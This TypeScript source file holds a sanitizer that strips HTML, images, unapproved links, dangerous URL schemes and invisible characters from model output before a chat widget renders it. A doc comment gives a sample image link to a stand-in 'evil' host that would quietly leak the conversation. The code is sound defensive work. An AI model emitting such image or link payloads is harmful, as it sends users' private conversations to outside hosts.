import { stripInvisible } from './invisible';
import { isAllowedLink, type LinkPolicy } from './link-policy';
import { BARE_URL, linkDestination, linkHref, MARKDOWN_LINK } from './link-rule';

export interface SanitizeOptions {
  links: LinkPolicy;
  /** Citations `[n]` above this number point at nothing and are removed. */
  citationCount: number;
}

/** Marks a link already approved, so the bare-URL pass leaves it alone (private-use characters are removed from input first). */
const PLACEHOLDER = (index: number) => `\uE000${index}\uE000`;

/**
 * The widget's link tokens (`link-rule.ts`), leftmost first as the widget reads them: the
 * guard judges exactly the links the widget will render.
 */
const LINK_TOKENS = new RegExp(`${MARKDOWN_LINK.source}|${BARE_URL.source}`, 'g');
const BARE_URLS = new RegExp(BARE_URL.source, 'g');

/**
 * An approved URL as it is written back: Markdown's own characters percent-encoded, so no
 * `**`, `__`, backtick or bracket inside it can pair with one outside and cut the URL apart
 * in the widget (which would render the tail, a URL nobody checked, as a link of its own).
 */
function inert(url: string): string {
  return url.replace(/[*_`()[\]<>]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`);
}

/**
 * Turns model output into the plain Markdown the widget renders: no HTML, no images (an image
 * loads by itself, so `![](https://evil/?q=…)` would leak the conversation without a click),
 * no links to hosts the tenant did not allow, no reference definitions, no invisible
 * characters, no citations of passages that were not given.
 */
export function sanitizeMarkdown(text: string, options: SanitizeOptions): string {
  const kept: string[] = [];
  const keep = (value: string) => PLACEHOLDER(kept.push(value) - 1);
  const allowed = (url: string) => isAllowedLink(url, options.links);

  let out = stripInvisible(text)
    .replace(/[\uE000-\uF8FF]/g, '')
    .replace(/&lt;/gi, '<')
    .replace(/&gt;/gi, '>')
    .replace(/&quot;/gi, '"')
    .replace(/&#0*39;|&apos;/gi, "'")
    .replace(/&amp;/gi, '&')
    .replace(/<!--[\s\S]*?(-->|$)/g, '')
    .replace(/<(https?:\/\/[^\s>]+)>/gi, (_, url: string) => (allowed(url) ? keep(inert(url)) : ''))
    .replace(/<[/!?]?[A-Za-z][^>]*(>|$)/g, '')
    .replace(/!\[[^\]]*\]\([^)]*\)?/g, '')
    .replace(/!\[[^\]]*\](\[[^\]]*\])?/g, '')
    .replace(/^ {0,3}\[[^\]]+\]:.*$\n?/gm, '')
    .replace(LINK_TOKENS, (_, label?: string, target?: string, bare?: string) => {
      if (bare !== undefined) return allowed(bare) ? keep(inert(bare)) : '';
      // A URL inside the label is judged too: Markdown around the link could cut it loose.
      const text = label!.replace(BARE_URLS, (url) => (allowed(url) ? inert(url) : ''));
      const url = linkDestination(target!);
      return allowed(url) ? keep(`[${text}](${inert(linkHref(url)!)})`) : text;
    })
    .replace(/\[([^\]\d][^\]]*)\]\[[^\]]*\]/g, '$1')
    // What the widget does not link (www., HTTP://) but a reader could follow: same policy.
    .replace(/\b(?:https?:\/\/|www\.)[^\s<>()[\]]+/gi, (url) =>
      allowed(url.startsWith('www.') ? `https://${url}` : url) ? url : '',
    )
    .replace(/\b(?:javascript|data|vbscript|file):[^\s)]+/gi, '')
    .replace(/\[(\d{1,3})\]/g, (citation, n: string) =>
      Number(n) >= 1 && Number(n) <= options.citationCount ? citation : '',
    );
  out = out.replace(/\uE000(\d+)\uE000/g, (_, index: string) => kept[Number(index)] ?? '');
  return out;
}
